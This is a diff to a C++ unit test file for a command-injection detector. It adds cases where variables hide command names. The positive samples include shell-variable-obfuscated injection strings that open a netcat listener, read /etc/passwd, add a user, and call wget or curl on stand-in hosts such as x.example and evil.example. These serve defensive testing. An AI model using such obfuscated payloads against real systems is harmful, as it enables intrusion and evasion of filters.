@@ -246,6 +246,32 @@ TEST(CmdiTest, CompletesOnPathologicalInput) {
   testing::RunsOnLargeInput(CmdiDetector(), Repeat("|", 1 << 20));
   testing::RunsOnLargeInput(CmdiDetector(), Repeat("require( 'child", 1 << 16) + "_process)");
   testing::RunsOnLargeInput(CmdiDetector(), Repeat("' .execute", 1 << 17) + "(");
+  testing::RunsOnLargeInput(CmdiDetector(), "a=b;" + Repeat(";$a", 1 << 18));
+  testing::RunsOnLargeInput(CmdiDetector(), Repeat(";$u ", 1 << 18));
+}
+
+// A command held in a variable the value assigned first, and a variable that
+// expands to nothing inside or before a command's name.
+TEST(CmdiTest, CommandsThroughVariables) {
+  for (const std::string a : {"a=nc&&$a -nlvp 4444", "c=cat;$c /etc/passwd",
+                              "x; b=/passwd && c=cat && ${c} /etc$b",
+                              "garb=adduse[r];$garb pizza"}) {
+    Match m;
+    EXPECT_TRUE(Detects(CmdiDetector(), Case{a}, &m)) << a;
+    EXPECT_EQ(m.rule_id, "cmdi.variable_command") << a;
+  }
+  for (const std::string a : {"uname$u -a", "x;n$u\\c$u -lvp 4444", "|$u wget http://x.example/s",
+                              "x;cu${x}rl evil.example"}) {
+    Match m;
+    EXPECT_TRUE(Detects(CmdiDetector(), Case{a}, &m)) << a;
+  }
+  // A variable used where no command starts, or never assigned at one; a
+  // name joined by a variable that spells no tool.
+  for (const std::string b : {"Cost: $5; $total due", "Set x=1; then $x is used", "price$usd; eur",
+                              "Pa$word;id$abc", "a=1, then $a"}) {
+    Match m;
+    EXPECT_FALSE(Detects(CmdiDetector(), Case{b}, &m)) << b << " -> " << m.rule_id;
+  }
 }
 
 TEST(CmdiTest, ReportsItsId) {
